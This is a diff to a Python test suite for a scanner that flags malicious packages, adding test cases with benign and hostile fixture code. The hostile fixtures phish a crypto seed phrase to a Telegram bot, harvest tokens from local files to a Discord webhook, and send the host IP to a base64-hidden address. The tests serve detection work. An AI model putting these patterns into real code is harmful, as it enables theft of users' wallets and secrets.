@@ -51,7 +51,8 @@ def flows_of(source: str) -> list[Flow]:
     }
     imports = {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
     imports |= {n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module}
-    return analyse_flows(tree, resolve, constants, imports)
+    # The request itself (a flow of every send to a hard-coded host) is tested through the engine.
+    return [f for f in analyse_flows(tree, resolve, constants, imports) if f.source is not Source.REQUEST]
 
 
 def scan_package(tmp_path: Path, files: dict[str, str]) -> tuple[Verdict, list[str]]:
@@ -461,3 +462,93 @@ def test_catcher_contact_benign_only_when_called(tmp_path: Path) -> None:
         },
     )
     assert verdict is not Verdict.MALICIOUS, findings
+
+
+def test_phishing_prompt_for_a_seed_phrase_sent_to_a_chat_bot(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/auth.py": """
+                import requests
+                def authorize():
+                    words = input("Enter your 12-word seed phrase to continue: ").split()
+                    text = "words: " + " ".join(words)
+                    requests.post("https://api.telegram.org/bot000:fixture/sendMessage", json={"text": text})
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") for f in findings), findings
+
+
+def test_phishing_benign_prompt_for_a_city_sent_to_a_chat_bot(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/weather.py": """
+                import requests
+                def ask(token):
+                    city = input("Which city? ")
+                    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", json={"text": city})
+            """,
+        },
+    )
+    assert not any(f.startswith("exfil-flow") for f in findings), findings
+
+
+def test_local_files_sent_to_a_hard_coded_webhook(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/scan.py": """
+                import re, requests
+                from pathlib import Path
+                HOOK = "https://discord.com/api/webhooks/1/fixture"
+                def hunt(root):
+                    found = []
+                    for path in Path(root).rglob("*.py"):
+                        with open(path) as handle:
+                            found += re.findall(r"token=(\\w+)", handle.read())
+                    return found
+                def report(root):
+                    for item in hunt(root):
+                        requests.post(HOOK, json={"content": item})
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_local_files_benign_uploaded_to_the_callers_url(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/upload.py": """
+                import requests
+                def upload(path, url):
+                    with open(path, "rb") as handle:
+                        return requests.put(url, data=handle.read())
+            """,
+        },
+    )
+    assert verdict is Verdict.CLEAN, findings
+
+
+def test_identity_sent_to_an_address_hidden_in_base64(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/net.py": """
+                import base64, socket, requests
+                def whoami():
+                    ip = socket.gethostbyname(socket.gethostname())
+                    requests.post(base64.b64decode(b"aHR0cDovLzE5Mi4wLjIuOS9zZXQ=").decode(), json={"ip": ip})
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
